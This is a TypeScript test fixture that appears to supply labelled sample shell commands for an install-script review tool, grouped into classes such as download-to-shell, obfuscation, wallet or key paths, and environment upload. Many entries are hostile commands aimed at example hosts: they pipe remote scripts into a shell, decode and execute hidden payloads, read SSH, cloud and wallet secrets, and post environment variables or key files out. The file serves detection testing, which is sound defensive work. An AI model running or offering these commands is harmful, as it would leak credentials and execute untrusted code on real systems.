/**
 * Commands of our own writing, each of a class that it is known to belong to: the class is the oracle. They are
 * never run; addresses are of example domains.
 */
import type { FindingClass } from '../../../shared/install-review/classes.ts'

export type Base = { readonly class: FindingClass; readonly script: string }

const of = (found: FindingClass, ...scripts: readonly string[]): readonly Base[] =>
  scripts.map((script) => ({ class: found, script }))

export const baseCommands: readonly Base[] = [
  ...of(
    'download-to-shell',
    'curl -fsSL https://get.example/x | sh',
    'wget -qO- https://get.example/x | sudo bash -s -- --yes',
    'bash <(curl -s https://get.example/x)',
    'sh -c "$(wget -O- https://get.example/x)"',
    'eval "$(curl -s https://get.example/x)"',
    'source <(curl -s https://get.example/env)',
    'curl -o /tmp/i.sh https://get.example/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh',
    'wget https://get.example/i.sh && bash i.sh',
    'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://get.example/p\').read())"',
    'perl -e "use LWP::Simple; eval get(q(https://get.example/p))"',
    'git clone https://git.example/node && cd node && ./setup.sh',
    'curl -L https://get.example/a.tgz | tar xz && ./a/setup',
    'PROMPT_COMMAND="curl -s https://get.example/x | sh"',
    'curl -so /tmp/e https://get.example/e; export BASH_ENV=/tmp/e',
    "curl -s https://get.example/x | sed 's/.*/&/e'",
    "sed -n '1e curl -s https://get.example/x | sh' README",
  ),
  ...of(
    'obfuscation',
    'echo Y3VybCBodHRwczovL2EuZXhhbXBsZQ== | base64 -d | sh',
    'eval "$(echo 6c73202d6c61 | xxd -r -p)"',
    "printf '\\154\\163\\40\\55\\154' | sh",
    "bash -c \"$(echo 'yf -yn' | tr 'a-z' 'n-za-m')\"",
    'openssl enc -d -aes-256-cbc -in blob -k pass | bash',
    'python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"',
    "echo 'al- sl' | rev | sh",
    "sed 's/a/curl x/e'",
    "sed -e 's|^|wget -q |gpe' names",
  ),
  ...of(
    'wallet-or-key-paths',
    'cat ~/.ssh/id_ed25519',
    'tar czf /tmp/backup.tgz $HOME/.config/solana',
    'cp -r ~/.ethereum/keystore /tmp/k',
    'cat ~/.aws/credentials',
    'grep -rilE "mnemonic|seed phrase" /home',
    'find / -name "wallet.dat"',
    'cp ~/.mozilla/firefox/p.default/logins.json /tmp',
    'ls ~/.kube/config',
    'gpg --armor --export-secret-keys me',
  ),
  ...of(
    'upload-of-environment-or-files',
    'env | curl -d @- https://up.example/c',
    'tar c ~/.ssh | nc up.example 9000',
    'curl -F file=@~/.config/solana/id.json https://up.example/c',
    'wget --post-file=/etc/passwd https://up.example/c',
    'curl -T /var/log/syslog https://up.example/c',
    'printenv | base64 -w0 | xargs -I{} curl https://up.example/{}',
    'scp /etc/passwd me@up.example:/tmp/',
    'curl -d "e=$(env)" https://up.example/c',
    'gpg --export-secret-keys | curl -T - https://up.example/c',
    'curl -H "k: $AWS_SECRET_ACCESS_KEY" https://up.example/c',
    'wget --header "Authorization: $WALLET_PRIVATE_KEY" https://up.example/c',
  ),
  ...of(
    'hidden-characters',
    'echo "user\u202e nimda"',
    'cu\u200brl --version',
    'echo "done\u001b[2K"',
    'ls # \u2066if root\u2069',
  ),
  ...of('sudo', 'sudo apt-get update', 'su -c "id"'),
  ...of('service', 'systemctl enable --now node', 'cp node.service /etc/systemd/system/'),
  ...of('cron', 'crontab -l', 'echo "* * * * * root id" > /etc/cron.d/node'),
  ...of('firewall', 'ufw allow 8000', 'iptables -A INPUT -p tcp --dport 80 -j ACCEPT'),
  ...of(
    'container-socket',
    'docker run -v /var/run/docker.sock:/var/run/docker.sock img',
    'usermod -aG docker me',
  ),
  ...of('kernel-module', 'modprobe nvidia', 'insmod ./x.ko'),
  ...of('auto-update', 'apt-get install -y unattended-upgrades', 'docker run containrrr/watchtower'),
]
